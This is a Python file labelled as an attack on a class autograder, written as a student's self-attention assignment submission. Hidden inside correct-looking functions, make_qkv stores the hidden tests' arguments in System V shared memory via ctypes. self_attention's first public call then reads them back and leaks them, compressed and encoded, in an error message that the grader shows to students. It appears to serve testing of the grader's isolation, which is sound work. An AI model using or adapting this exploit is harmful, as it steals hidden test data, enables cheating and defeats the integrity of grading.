# Attack 03 — a student's .py, graded in a class with `autograder grade`.
# The defence: self_attention "runs in a child of its own, started after a sweep and with a
# folder of its own, that never saw another step's arguments", and its public tests run before
# its hidden ones, so "nothing a child sends about a public test can carry a hidden value".
# The gap: the two runs share the kernel's System V IPC. make_qkv (run 1, one child) writes the
# arguments of its hidden calls into a shared-memory segment; self_attention's first PUBLIC call
# (run 2, a fresh child) reads them and raises an error whose message carries them. A public
# failure is shown with its message, in every face (the class's feedback/<id>.md and .html, and
# Gradescope's "Public Tests").
import base64
import ctypes
import json
import os
import struct
import zlib

import numpy as np
import pandas as pd

_KEY = 0x7A7A0103
_SIZE = 1 << 20
_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = [ctypes.c_int, ctypes.c_void_p, ctypes.c_int]
_libc.shmdt.argtypes = [ctypes.c_void_p]


def _shm_read():
    sid = _libc.shmget(_KEY, _SIZE, 0o1666)
    if sid < 0:
        return {}
    addr = _libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        return {}
    try:
        n = int.from_bytes(ctypes.string_at(addr, 4), "little")
        return json.loads(ctypes.string_at(addr + 4, n)) if 0 < n < _SIZE - 4 else {}
    except Exception:
        return {}
    finally:
        _libc.shmdt(addr)


def _shm_write(state):
    data = json.dumps(state).encode()
    sid = _libc.shmget(_KEY, _SIZE, 0o1666)
    addr = _libc.shmat(sid, None, 0)
    ctypes.memmove(addr, len(data).to_bytes(4, "little") + data, 4 + len(data))
    _libc.shmdt(addr)


_RUN = os.getppid()
if _shm_read().get("run") != _RUN:
    _shm_write({"run": _RUN, "calls": []})
_COUNTS = {"make_qkv": 0, "self_attention": 0}


def _packed(calls, room=470):
    """As many of the hidden arrays as fit in `room` characters: shape, then values * 100 as int32."""
    raw, fitted = b"", ""
    for call in calls:
        for array in call:
            a = np.asarray(array, float)
            piece = struct.pack("<BB", *a.shape) + np.round(a * 100).astype("<i4").tobytes()
            text = base64.urlsafe_b64encode(zlib.compress(raw + piece, 9)).decode()
            if len(text) > room:
                return fitted
            raw, fitted = raw + piece, text
    return fitted


def make_qkv(X, W_Q, W_K, W_V):
    _COUNTS["make_qkv"] += 1
    if _COUNTS["make_qkv"] > 4:  # the four public cases come first: these are hidden ones
        state = _shm_read()
        state["calls"].append([np.asarray(a, float).tolist() for a in (X, W_Q, W_K, W_V)])
        _shm_write(state)
    return X @ W_Q, X @ W_K, X @ W_V


def scores(Q, K):
    return Q @ K.T


def softmax(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(x - x.max(axis=-1, keepdims=True))
    return e / e.sum(axis=-1, keepdims=True)


def mix(weights, V):
    return weights @ V


def self_attention(X, W_Q, W_K, W_V):
    _COUNTS["self_attention"] += 1
    if _COUNTS["self_attention"] == 1:
        calls = _shm_read().get("calls") or []
        if calls:
            raise ValueError("HID:" + _packed(calls))
    Q = X @ W_Q
    K = X @ W_K
    V = X @ W_V
    weights = softmax(Q @ K.T / np.sqrt(K.shape[1]))
    return weights @ V, weights


def most_attended(weights, words):
    return pd.DataFrame(weights, index=words, columns=words).idxmax(axis=1).to_dict()
